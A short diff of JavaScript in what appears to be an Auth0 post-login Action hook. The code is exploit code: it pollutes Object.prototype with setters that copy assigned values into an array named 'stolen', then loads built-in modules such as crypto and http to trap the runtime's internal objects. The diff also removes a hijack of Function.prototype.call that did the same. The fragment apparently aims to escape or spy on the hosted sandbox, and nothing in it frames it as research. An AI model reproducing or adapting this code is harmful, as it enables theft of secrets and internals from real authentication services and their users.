@@ -6,7 +6,6 @@ exports.onExecutePostLogin = async (event, api) => {
   for (const name of ['call', 'start', 'inspect', 'write', 'host', 'settle', 'exports', 'module']) {
     Object.defineProperty(Object.prototype, name, { configurable: true, get: () => undefined, set(value) { Reflect.apply(push, stolen, [value]); } });
   }
-  Function.prototype.call = function () { Reflect.apply(push, stolen, [this]); };
   for (const name of ['crypto', 'zlib', 'url', 'stream', 'http', 'util']) {
     try {
       require(name);
